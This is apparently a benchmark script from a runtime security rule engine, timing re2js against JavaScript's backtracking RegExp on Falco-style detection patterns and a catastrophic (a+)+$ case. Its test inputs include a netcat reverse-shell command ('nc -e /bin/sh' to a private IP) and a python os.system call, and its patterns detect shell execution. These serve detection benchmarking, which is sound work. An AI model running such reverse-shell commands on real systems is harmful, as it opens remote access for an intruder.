/**
 * The `regex` operator's engine (issue 7): re2js (linear time, what vigil
 * uses) against JavaScript's backtracking RegExp (the baseline, what vigil
 * used), on Falco-style patterns and inputs, and on a catastrophic pattern.
 *
 *   node --import tsx bench/regex/run.ts [--ms 500] [--no-write]
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { compileLinearRegex } from '../../rules/compiler/regex.js';

const args = process.argv.slice(2);
const ms = Number(args[args.indexOf('--ms') + 1] ?? 0) || 500;
const write = !args.includes('--no-write');

const CASES: readonly { name: string; pattern: string; inputs: readonly string[] }[] = [
  { name: 'shell path', pattern: '/(usr/)?(s)?bin/(ba|z|da|k)?sh', inputs: ['/usr/bin/bash', '/bin/sh', '/usr/local/bin/node', '/opt/app/server'] },
  { name: 'dotted ip:port', pattern: '([0-9]{1,3}\\.){3}[0-9]{1,3}:[0-9]+', inputs: ['10.0.0.12:443', 'example.com:80', '192.168.1.1:22'] },
  { name: 'args with -e', pattern: '.*(-e|--exec|-c) .*', inputs: ['nc -e /bin/sh 10.0.0.1 4444', 'ls -la /tmp', 'python3 -c import os; os.system("id")'] },
  { name: 'k8s pod name', pattern: '[a-z0-9]([-a-z0-9]*[a-z0-9])?-[a-z0-9]{5}', inputs: ['web-7d9f8c6b5-x2k9p', 'redis-0', 'coredns-5d78c9869d-abcde'] },
];

/** Matches per second of `test` over the inputs, best of three windows. */
function rate(test: (s: string) => boolean, inputs: readonly string[]): number {
  let best = 0;
  for (let round = 0; round < 3; round++) {
    let n = 0;
    const end = performance.now() + ms;
    while (performance.now() < end) {
      for (let i = 0; i < 1000; i++) test(inputs[i % inputs.length]!);
      n += 1000;
    }
    best = Math.max(best, n / (ms / 1000));
  }
  return best;
}

const rows: string[] = [];
for (const c of CASES) {
  const re2 = compileLinearRegex(c.pattern);
  const js = new RegExp(`^(?:${c.pattern})$`);
  for (const s of c.inputs) if (re2.test(s) !== js.test(s)) throw new Error(`engines disagree on ${c.pattern} vs ${s}`);
  const a = rate((s) => re2.test(s), c.inputs);
  const b = rate((s) => js.test(s), c.inputs);
  rows.push(`| ${c.name} | \`${c.pattern}\` | ${(a / 1e6).toFixed(2)} M/s | ${(b / 1e6).toFixed(2)} M/s | ${(b / a).toFixed(1)}x |`);
  console.log(rows[rows.length - 1]);
}

// The catastrophic case: (a+)+$ over 'a'*n + '!'. JavaScript doubles per character; RE2 stays linear.
const cat: string[] = [];
const re2 = compileLinearRegex('(a+)+$');
const js = /^(?:(a+)+$)$/;
for (const n of [16, 20, 22, 24, 26]) {
  const s = `${'a'.repeat(n)}!`;
  let t = performance.now();
  re2.test(s);
  const tRe2 = performance.now() - t;
  t = performance.now();
  js.test(s);
  const tJs = performance.now() - t;
  cat.push(`| ${n + 1} | ${tRe2.toFixed(3)} ms | ${tJs.toFixed(1)} ms |`);
  console.log(cat[cat.length - 1]);
}
const long = `${'a'.repeat(100_000)}!`;
const t0 = performance.now();
re2.test(long);
const tLong = performance.now() - t0;
console.log(`re2js on 100,001 bytes: ${tLong.toFixed(1)} ms`);

if (write) {
  writeFileSync(
    join(import.meta.dirname, 'RESULTS.md'),
    `# Regex engine results

Recorded by \`bench/regex/run.ts\` on ${new Date().toISOString()} (2 cores, shared, noisy). vigil's \`regex\` operator runs re2js (RE2, linear time); the baseline is JavaScript's backtracking RegExp, which vigil used before, measured in the same run. Full match, as Falco's. Neither the default library nor Falco's stable rules use \`regex\`, so the rule-engine benchmark (bench/engine) does not move.

## Throughput (best of 3 windows of ${ms} ms)

| Case | Pattern | re2js | RegExp (baseline) | RegExp / re2js |
|---|---|---:|---:|---:|
${rows.join('\n')}

## Catastrophic backtracking: \`(a+)+$\` over \`a…a!\`

| Input bytes | re2js | RegExp (baseline) |
|---:|---:|---:|
${cat.join('\n')}

re2js on 100,001 bytes: ${tLong.toFixed(1)} ms. The backtracking engine doubles its time with every extra byte (the issue measured 30 s at 34 bytes).
`,
  );
  console.log('wrote bench/regex/RESULTS.md');
}
